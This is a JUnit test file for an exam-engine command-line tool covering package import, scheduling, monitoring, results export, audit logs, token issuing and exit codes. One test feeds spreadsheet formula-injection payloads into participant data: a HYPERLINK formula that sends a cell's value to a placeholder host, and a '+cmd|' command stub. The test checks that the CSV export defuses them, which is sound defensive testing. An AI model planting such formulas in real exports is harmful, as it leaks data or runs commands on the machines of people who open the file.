package org.examengine.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;

/** The operator's side of an exam, run through the command line on an embedded database. */
class ScriptedExamCliTest {

    @TempDir
    Path dir;

    private String db;

    @BeforeEach
    void files() throws IOException {
        db = dir.resolve("data").toString();
        Files.writeString(dir.resolve("forklift.csv"), """
                question,option,option,option,correct
                Max load?,500 kg,"1,000 kg",2000 kg,B
                Who may drive?,Anyone,Trained staff,Visitors,2
                Seat belt?,Always,Never,Sometimes,A
                """);
        Files.writeString(dir.resolve("people.csv"), """
                id,name,employeeNumber,email
                w-1,Ani,EMP-1,ani@example.com
                w-2,Budi,EMP-2,budi@example.com
                w-3,Citra,EMP-3,
                """);
    }

    private CliRunner.Result cli(String... args) {
        String[] withDb = new String[args.length + 2];
        System.arraycopy(args, 0, withDb, 0, args.length);
        withDb[args.length] = "--db";
        withDb[args.length + 1] = db;
        return CliRunner.run(withDb);
    }

    private static JsonNode json(CliRunner.Result result) throws IOException {
        assertThat(result.exitCode()).as(result.err()).isZero();
        return Output.JSON.readTree(result.out());
    }

    @Test
    void anOperatorImportsSchedulesWatchesActsAndExports() throws IOException {
        CliRunner.Result created = cli("migrate");
        assertThat(created.exitCode()).isZero();
        assertThat(created.out()).isEqualTo("created the exam database in " + db + "\n");
        assertThat(cli("migrate").out()).isEqualTo("schema is up to date in " + db + "\n");
        JsonNode pkg = json(cli("import-package", dir.resolve("forklift.csv").toString(), "--id", "forklift-v1",
                "--json"));
        assertThat(pkg.get("questionCount").asInt()).isEqualTo(3);

        JsonNode scheduled = json(cli("schedule", "--id", "fl-2026-03", "--title", "Forklift", "--category", "Safety",
                "--opens", "now-1m", "--duration", "30", "--package", "forklift-v1", "--participants",
                dir.resolve("people.csv").toString(), "--json"));
        assertThat(scheduled.get("sessions")).hasSize(3);
        String firstSession = scheduled.get("sessions").get(0).get("sessionId").asText();

        JsonNode history = json(cli("history", "--title", "fork", "--json"));
        assertThat(history).hasSize(1);
        assertThat(history.get(0).get("groupStatus").asText()).isEqualTo("Open");
        assertThat(json(cli("history", "--status", "Open", "--json"))).as("the status as the table prints it")
                .hasSize(1);
        assertThat(json(cli("history", "--status", "closed", "--json"))).isEmpty();

        JsonNode closed = json(cli("force-close", firstSession, "--json"));
        assertThat(closed.get("status").asText()).isEqualTo("Abandoned");

        CliRunner.Result table = cli("monitor", "fl-2026-03", "--once");
        assertThat(table.exitCode()).isZero();
        assertThat(table.out()).contains("Ani").contains("Abandoned").contains("NotStarted").contains("0/3")
                .doesNotContain("budi@example.com").doesNotContain("EMP-2");

        JsonNode byKey = json(cli("monitor", "--title", "Forklift", "--category", "Safety", "--date",
                history.get(0).get("scheduleDate").asText(), "--json"));
        assertThat(byKey.get("sessions")).hasSize(3);

        JsonNode export = json(cli("results", "fl-2026-03", "--json"));
        assertThat(export.get("rows")).hasSize(3);
        assertThat(export.toString()).doesNotContain("@example.com");
        CliRunner.Result csv = cli("results", "fl-2026-03");
        assertThat(csv.out().lines().findFirst()).contains(
                "sessionId,participantId,name,employeeNumber,status,attempt,score,result,answered,total,startedAt,"
                        + "completedAt,closedBy");
        assertThat(csv.out()).contains("EMP-1");

        JsonNode reset = json(cli("reset", firstSession, "--json"));
        assertThat(reset.get("status").asText()).isEqualTo("NotStarted");

        JsonNode sessionHistory = json(cli("session-history", firstSession, "--json"));
        assertThat(sessionHistory.get("attempt").asInt()).isEqualTo(2);
        assertThat(sessionHistory.get("attempts").get(0).get("status").asText()).isEqualTo("Abandoned");
        CliRunner.Result historyText = cli("session-history", firstSession);
        assertThat(historyText.exitCode()).isZero();
        assertThat(historyText.out()).contains("attempt 2, NotStarted").contains("SESSION_FORCE_CLOSED")
                .contains("SESSION_RESET");

        // The audit log of every kind, newest first: the reset, then the force-close before it.
        JsonNode audit = json(cli("audit", "--limit", "2", "--json"));
        assertThat(audit).hasSize(2);
        assertThat(audit.get(0).get("action").asText()).isEqualTo("SESSION_RESET");
        assertThat(audit.get(0).get("sessionId").asText()).isEqualTo(firstSession);
        assertThat(audit.get(1).get("action").asText()).isEqualTo("SESSION_FORCE_CLOSED");
        CliRunner.Result auditText = cli("audit");
        assertThat(auditText.exitCode()).isZero();
        assertThat(auditText.out().lines().findFirst().orElseThrow()).contains("SESSION_RESET")
                .contains("session " + firstSession);
        assertThat(auditText.out()).contains("PACKAGE_IMPORTED");
        CliRunner.Result tooMany = cli("audit", "--limit", "1001");
        assertThat(tooMany.exitCode()).isEqualTo(2);
        assertThat(tooMany.err()).startsWith("error:").contains("limit");
    }

    @Test
    void resultsAsCsvNeverHandASpreadsheetAFormula() throws IOException {
        Files.writeString(dir.resolve("formulas.csv"), """
                id,name,employeeNumber
                w-1,"=HYPERLINK(""http://example.invalid/?""&A1,""click"")",+cmd|x
                @w-2,@SUM(1+1),-2
                """);
        assertThat(cli("import-package", dir.resolve("forklift.csv").toString(), "--id", "forklift-v1").exitCode())
                .isZero();
        assertThat(cli("schedule", "--id", "formulas", "--title", "Formulas", "--category", "Safety", "--opens",
                "now-1m", "--duration", "30", "--package", "forklift-v1", "--participants",
                dir.resolve("formulas.csv").toString()).exitCode()).isZero();

        CliRunner.Result csv = cli("results", "formulas");
        assertThat(csv.exitCode()).as(csv.err()).isZero();
        List<String> rows = csv.out().lines().skip(1).toList();
        assertThat(rows).hasSize(2);
        assertThat(String.join("\n", rows)).contains("\"'=HYPERLINK(", "'+cmd|x", "'@w-2", "'@SUM(1+1)", "'-2")
                .doesNotContain(",=", ",+", ",@", ",-");
    }

    @Test
    void everyDocumentedExitCodeComesFromARealSituation() throws IOException, SQLException {
        cli("import-package", dir.resolve("forklift.csv").toString(), "--id", "p1");
        JsonNode scheduled = json(cli("schedule", "--title", "T", "--category", "C", "--opens", "now", "--duration",
                "10", "--package", "p1", "--participants", dir.resolve("people.csv").toString(), "--json"));
        String session = scheduled.get("sessions").get(0).get("sessionId").asText();

        CliRunner.Result refused = cli("extend", session, "--minutes", "5");
        assertThat(refused.exitCode()).isEqualTo(1);
        assertThat(refused.err()).startsWith("error: ").contains("NotStarted");
        assertThat(refused.err().lines().count()).isEqualTo(1);

        CliRunner.Result usage = cli("extend", session);
        assertThat(usage.exitCode()).isEqualTo(2);
        assertThat(usage.err()).contains("--minutes");

        assertThat(cli("extend", session, "--minutes", "0").exitCode()).as("invalid input").isEqualTo(2);

        CliRunner.Result missing = cli("reset", "no-such-session");
        assertThat(missing.exitCode()).isEqualTo(3);
        assertThat(missing.err()).isEqualTo("error: session no-such-session not found\n");

        CliRunner.Result connection = CliRunner.run("history", "--db", "jdbc:postgresql://127.0.0.1:1/none",
                "--db-user", "x");
        assertThat(connection.exitCode()).isEqualTo(4);
        assertThat(connection.err()).startsWith("error: cannot connect");
        assertThat(connection.err().lines().count()).isEqualTo(1);

        // A read of a database that does not exist does not create an empty one.
        CliRunner.Result mistyped = CliRunner.run("history", "--db", dir.resolve("dta").toString());
        assertThat(mistyped.exitCode()).as(mistyped.err()).isEqualTo(2);
        assertThat(mistyped.err()).contains("no exam database in");
        assertThat(dir.resolve("dta")).doesNotExist();

        // Option values that do not parse are usage errors, not refusals.
        CliRunner.Result noScheme = CliRunner.run("monitor", "a1", "--once", "--server", "127.0.0.1:8080",
                "--token", "t.x");
        assertThat(noScheme.exitCode()).as(noScheme.err()).isEqualTo(2);
        assertThat(noScheme.err()).isEqualTo("error: --server must be an http:// or https:// address, e.g. "
                + "http://127.0.0.1:8080, was 127.0.0.1:8080\n");
        CliRunner.Result nobodyListening = CliRunner.run("results", "a1", "--server", "http://127.0.0.1:1",
                "--token", "t.x");
        assertThat(nobodyListening.exitCode()).isEqualTo(4);
        assertThat(nobodyListening.err()).isEqualTo(
                "error: cannot connect: cannot reach http://127.0.0.1:1 (connection refused or closed)\n");
        CliRunner.Result otherDatabase = CliRunner.run("history", "--db", "jdbc:mysql://127.0.0.1/exams");
        assertThat(otherDatabase.exitCode()).as(otherDatabase.err()).isEqualTo(2);
        assertThat(otherDatabase.err().lines().count()).isEqualTo(1);
        assertThat(otherDatabase.err()).contains("jdbc:mysql:").doesNotContain("127.0.0.1");

        // A --db that is a file, or below one, is a usage error in one line, not H2's stack trace.
        Path file = Files.writeString(dir.resolve("afile"), "hi");
        for (Path notADirectory : List.of(file, file.resolve("below"))) {
            CliRunner.Result notDir = CliRunner.run("migrate", "--db", notADirectory.toString());
            assertThat(notDir.exitCode()).as(notDir.err()).isEqualTo(2);
            assertThat(notDir.err()).startsWith("error: --db ").contains("is a file");
            assertThat(notDir.err().lines().count()).isEqualTo(1);
            assertThat(notDir.out()).isEmpty();
        }

        // The HTTP API issues tokens for whole minutes: a token for 90 s is refused rather than issued for 60 s.
        CliRunner.Result seconds = CliRunner.run("token", "issue", "--role", "WORKER", "--subject", "w-9",
                "--valid-for", "PT90S", "--server", "http://127.0.0.1:1", "--token", "t.x");
        assertThat(seconds.exitCode()).as(seconds.err()).isEqualTo(2);
        assertThat(seconds.err()).isEqualTo("error: --valid-for must be whole minutes with --server, was PT1M30S\n");

        // Durations as people write them; the engine's own role is never issued.
        CliRunner.Result eightHours = CliRunner.run("token", "issue", "--role", "hc", "--subject", "hc-8",
                "--valid-for", "8h", "--db", db, "--json");
        assertThat(eightHours.exitCode()).as(eightHours.err()).isZero();
        assertThat(eightHours.out()).contains("\"role\" : \"HC\"");
        CliRunner.Result zero = CliRunner.run("token", "issue", "--role", "HC", "--subject", "hc-0",
                "--valid-for", "P0D", "--db", db);
        assertThat(zero.exitCode()).isEqualTo(2);
        assertThat(zero.err()).contains("a token is valid for 1 minute to 366 days, was 'P0D'");
        CliRunner.Result system = CliRunner.run("token", "issue", "--role", "SYSTEM", "--subject", "s", "--db", db);
        assertThat(system.exitCode()).isEqualTo(2);
        assertThat(system.err()).contains("expected WORKER, HC or ADMIN, was 'SYSTEM'");

        // A mistyped command line, or a file that is not one, is one line naming what is wrong.
        for (List<String> wrong : List.of(
                List.of("results", "x", "--format", "xml"),
                List.of("import-package", dir.toString()),
                List.of("schedule", "--file", dir.resolve("missing.json").toString()))) {
            CliRunner.Result mistake = cli(wrong.toArray(String[]::new));
            assertThat(mistake.exitCode()).as(mistake.err()).isEqualTo(2);
            assertThat(mistake.err()).startsWith("error: ");
            assertThat(mistake.err().lines().count()).as(mistake.err()).isEqualTo(1);
        }

        // An assessment file with a field it does not have, or a value of the wrong type, says which and what is.
        Files.writeString(dir.resolve("opens.json"), "{\"opens\": \"now\"}");
        CliRunner.Result unknown = cli("schedule", "--file", dir.resolve("opens.json").toString());
        assertThat(unknown.exitCode()).isEqualTo(2);
        assertThat(unknown.err()).contains("unknown field 'opens' (the fields are id, title, category, scheduleDate, "
                + "opensAt,");
        Files.writeString(dir.resolve("typed.json"), "{\"durationMinutes\": \"x\"}");
        CliRunner.Result typed = cli("schedule", "--file", dir.resolve("typed.json").toString());
        assertThat(typed.exitCode()).isEqualTo(2);
        assertThat(typed.err()).contains("field 'durationMinutes' has the wrong type (expected a number)")
                .doesNotContain("java.lang");
        assertThat(cli("import-package", dir.toString()).err()).contains("is a directory, not a file");
        assertThat(cli("schedule", "--file", dir.resolve("missing.json").toString()).err())
                .contains("no such file: ");
        CliRunner.Result demoOnly = CliRunner.run("serve", "--demo-workers", "3", "--db", dir.resolve("never").toString());
        assertThat(demoOnly.exitCode()).isEqualTo(2);
        assertThat(demoOnly.err()).isEqualTo("error: --demo-workers and --demo-seconds apply with --demo "
                + "(see 'exam-engine serve --help')\n");
        assertThat(dir.resolve("never")).doesNotExist();

        // A database that a newer engine migrated is refused, in one line, and left as it is.
        try (Connection c = DriverManager.getConnection("jdbc:h2:file:" + Path.of(db).resolve("exam-engine")
                .toAbsolutePath(), "sa", ""); Statement s = c.createStatement()) {
            s.execute("INSERT INTO \"exam_schema_history\" (\"installed_rank\", \"version\", \"description\", "
                    + "\"type\", \"script\", \"checksum\", \"installed_by\", \"execution_time\", \"success\") "
                    + "VALUES (99, '99', 'newer', 'SQL', 'V99__newer.sql', 0, 'newer', 1, TRUE)");
        }
        CliRunner.Result newer = cli("migrate");
        assertThat(newer.exitCode()).as(newer.err()).isEqualTo(5);
        assertThat(newer.err()).startsWith("error: the database's schema is at version 99, newer than this engine's");
        assertThat(newer.err().lines().count()).isEqualTo(1);
        assertThat(cli("history").exitCode()).as("every command refuses it").isEqualTo(5);
        try (Connection c = DriverManager.getConnection("jdbc:h2:file:" + Path.of(db).resolve("exam-engine")
                .toAbsolutePath(), "sa", ""); Statement s = c.createStatement()) {
            s.execute("DELETE FROM \"exam_schema_history\" WHERE \"version\" = '99'");
        }

        // A time past what an instant holds is a usage error too, not a refusal.
        CliRunner.Result farFuture = cli("schedule", "--title", "Far", "--category", "C", "--opens",
                "now+9999999999999d", "--duration", "10", "--package", "p1", "--participants",
                dir.resolve("people.csv").toString());
        assertThat(farFuture.exitCode()).as(farFuture.err()).isEqualTo(2);
        assertThat(farFuture.err().lines().count()).isEqualTo(1);
    }

    @Test
    void anAssessmentForNobodyIsRefusedAsAUsageErrorAndLeavesItsTitleFree() {
        assertThat(cli("import-package", dir.resolve("forklift.csv").toString(), "--id", "p").exitCode()).isZero();
        CliRunner.Result nobody = cli("schedule", "--title", "T", "--category", "C", "--opens", "now",
                "--duration", "10", "--package", "p");

        assertThat(nobody.exitCode()).isEqualTo(2);
        assertThat(nobody.err()).contains("participants must not be empty");
        assertThat(cli("schedule", "--title", "T", "--category", "C", "--opens", "now", "--duration", "10",
                "--package", "p", "--participants", dir.resolve("people.csv").toString()).exitCode()).isZero();
    }

    @Test
    void aBadPackageFileIsRejectedWithItsLineAndNothingIsImported() throws IOException {
        Files.writeString(dir.resolve("bad.json"), """
                {"id": "bad", "title": "Bad",
                 "questions": [
                  {"text": "Two right answers?", "options": [{"text": "a", "correct": true}, {"text": "b", "correct": true}]}
                 ]}
                """);
        CliRunner.Result result = cli("import-package", dir.resolve("bad.json").toString());
        assertThat(result.exitCode()).isEqualTo(2);
        assertThat(result.err()).contains("bad.json line 3").contains("exactly one correct option");
        assertThat(cli("schedule", "--title", "T", "--category", "C", "--opens", "now", "--duration", "10",
                "--package", "bad", "--participants", dir.resolve("people.csv").toString()).exitCode())
                .as("the package was not imported").isEqualTo(3);
    }

    @Test
    void tokensAreIssuedOnceAndRevoked() throws IOException {
        JsonNode issued = json(cli("token", "issue", "--role", "HC", "--subject", "hc-ani", "--valid-for", "PT8H",
                "--json"));
        String token = issued.get("token").asText();
        String id = issued.get("tokenId").asText();
        assertThat(token).startsWith(id + ".");
        assertThat(token.length() - id.length() - 1).as("secret characters").isGreaterThanOrEqualTo(22);
        assertThat(cli("token", "revoke", id).exitCode()).isZero();
        CliRunner.Result again = cli("token", "revoke", id);
        assertThat(again.exitCode()).as("not found").isEqualTo(3);
        assertThat(cli("token", "issue", "--role", "SYSTEM", "--subject", "x").exitCode()).isEqualTo(2);
    }

    @Test
    void everyCommandHasHelpAndCompletionIsGenerated() {
        for (String command : new String[] {"migrate", "import-package", "schedule", "token", "monitor", "results",
            "history", "session-history", "audit",
            "force-close", "reset", "extend", "demo", "completion"}) {
            CliRunner.Result help = CliRunner.run(command, "--help");
            assertThat(help.exitCode()).as(command).isZero();
            assertThat(help.out()).as(command).contains("Usage:");
        }
        CliRunner.Result completion = CliRunner.run("completion");
        assertThat(completion.out()).contains("complete").contains("import-package");
        assertThat(CliRunner.run("--help").out()).contains("Exit codes:");
    }
}
